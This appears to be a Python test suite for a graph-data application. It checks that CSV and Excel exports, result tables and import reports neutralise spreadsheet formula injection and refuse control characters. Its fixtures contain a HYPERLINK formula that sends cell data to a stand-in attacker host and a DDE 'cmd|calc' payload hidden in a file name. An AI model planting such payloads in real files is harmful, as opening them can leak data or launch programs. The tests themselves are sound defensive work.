"""Names from users' files never run as formulas when an export or a report is opened in Excel."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

from openpyxl import load_workbook

from app.output import render_rows, render_tables
from graph_schema import Enterprise
from loaders.export import export_graph
from loaders.importer import import_files
from stores.base import GraphStore, WriteBatch
from stores.embedded import EmbeddedStore

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
ENTERPRISES = (
    "企业名称,所属产业链,主营产品,数据来源\n"
    f"\"{HOSTILE.replace(chr(34), chr(34) * 2)}\",新能源,正极材料,@SUM(1+1)\n"
    "+南昌乙材料有限公司,新能源,碳酸锂,-企业访谈\n"
)
SUPPLIES = f"供应方,采购方,产品\n+南昌乙材料有限公司,\"{HOSTILE.replace(chr(34), chr(34) * 2)}\",碳酸锂\n"


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _formula_cells(path_or_bytes: Path | bytes) -> list[str]:
    source = io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes
    workbook = load_workbook(source)
    return [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_export_keeps_hostile_names_as_text_and_round_trips(reference_store: GraphStore, tmp_path: Path,
                                                            write_file: Callable[..., Path]) -> None:
    report = import_files(reference_store, [write_file("=1+1企业.csv", ENTERPRISES), write_file("供应.csv", SUPPLIES)])
    assert report.ok, report.summary()
    names = sorted(node["name"] for node in reference_store.list_nodes("Enterprise"))
    assert names == sorted([HOSTILE, "+南昌乙材料有限公司"])

    csv_files = export_graph(reference_store, "csv", tmp_path / "out.csv")
    cells = [cell for path in csv_files for row in _csv_rows(path.read_bytes()) for cell in row]
    assert "'" + HOSTILE in cells and "'+南昌乙材料有限公司" in cells
    assert not [cell for cell in cells if cell and cell[0] in "=+-@"], "a CSV cell would start a formula"

    [xlsx] = export_graph(reference_store, "xlsx", tmp_path / "out.xlsx")
    assert _formula_cells(xlsx) == []
    sheet = load_workbook(xlsx)["企业名录"]
    assert HOSTILE in [cell.value for row in sheet.iter_rows() for cell in row]  # text, unchanged

    for exported in (csv_files, [xlsx]):  # the apostrophe comes off again: re-import changes nothing
        fresh = EmbeddedStore(tmp_path / f"fresh-{exported[0].suffix[1:]}.sqlite")
        fresh.ensure_schema()
        assert import_files(fresh, exported).ok
        assert sorted(node["name"] for node in fresh.list_nodes("Enterprise")) == names
        assert fresh.counts()["SUPPLIES"] == 1
        fresh.close()


def test_result_tables_and_import_reports_keep_formulas_as_text(reference_store: GraphStore,
                                                                write_file: Callable[..., Path]) -> None:
    rows = [{"企业": HOSTILE, "数量": -3, "标签": ["@x", "y"]}]
    assert _csv_rows(render_rows(rows, "csv"))[1] == ["'" + HOSTILE, "-3", "'@x、y"]
    assert _formula_cells(render_tables({"结果": rows})) == []
    assert _formula_cells(render_rows(rows, "xlsx")) == []

    bad = write_file("=cmd|' calc'!A0.csv", "企业名称,统一社会信用代码\n南昌甲科技有限公司,=1+2\n")
    report = import_files(reference_store, [bad])
    assert not report.ok
    csv_rows = _csv_rows(report.render("csv"))
    assert csv_rows[1][0] == "'=cmd|' calc'!A0.csv" and csv_rows[1][4] == "'=1+2"
    assert _formula_cells(report.render("xlsx")) == []


def test_control_characters_are_refused_on_import_and_dropped_on_export(
        reference_store: GraphStore, tmp_path: Path, write_file: Callable[..., Path]) -> None:
    before = reference_store.counts()
    report = import_files(reference_store, [write_file("坏.csv", "企业名称,所属产业链\n坏\x01名有限公司,新能源\n")])
    assert not report.ok and reference_store.counts() == before
    [problem] = report.rows()
    assert problem["行"] == 2 and problem["列"] == "企业名称" and "U+0001" in problem["问题"]
    load_workbook(io.BytesIO(report.render("xlsx")))  # the report itself still saves

    # Data stored by other means can still hold one: exports drop it instead of failing.
    reference_store.write(WriteBatch(nodes=[Enterprise(id="ent:ctl", name="旧\x02数据企业", local=True)]))
    [xlsx] = export_graph(reference_store, "xlsx", tmp_path / "ctl.xlsx")
    assert "旧数据企业" in [cell.value for row in load_workbook(xlsx)["企业名录"].iter_rows() for cell in row]
    assert render_tables({"结果": [{"企业": "旧\x02数据企业"}]})
